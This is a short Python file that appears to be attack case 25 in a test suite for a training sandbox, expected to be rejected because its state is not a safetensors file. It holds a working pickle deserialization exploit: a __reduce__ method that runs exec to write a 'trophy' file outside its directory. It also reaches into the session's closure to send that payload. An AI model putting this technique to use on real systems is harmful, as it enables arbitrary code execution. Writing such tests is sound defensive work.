"""Sends a pickle with a program in it as its state, in place of the file that the session would write."""

import pickle

import torch

ATTACK = 25
ENDS = "invalid"
REASON = "the state is not a safetensors file"
HARM = "trophy"


class Payload(dict):
    def __reduce__(self):
        return exec, ("import contextlib\nwith contextlib.suppress(OSError): open('../trophy', 'w').write('was here')",)


def train(session):
    state = counted(session)
    for cell in session._tell.__closure__ or ():
        if hasattr(cell.cell_contents, "send"):
            cell.cell_contents.send({"type": "state"}, pickle.dumps(Payload(state)))
    return Payload(state)


def counted(session):
    data = session.start().long()
    pairs = torch.bincount(256 * data[:-1] + data[1:], minlength=256 * 256).view(256, 256)
    return {"table": (pairs + 0.1).log()}


def predict(state, task):
    return lambda tokens: state["table"][tokens]
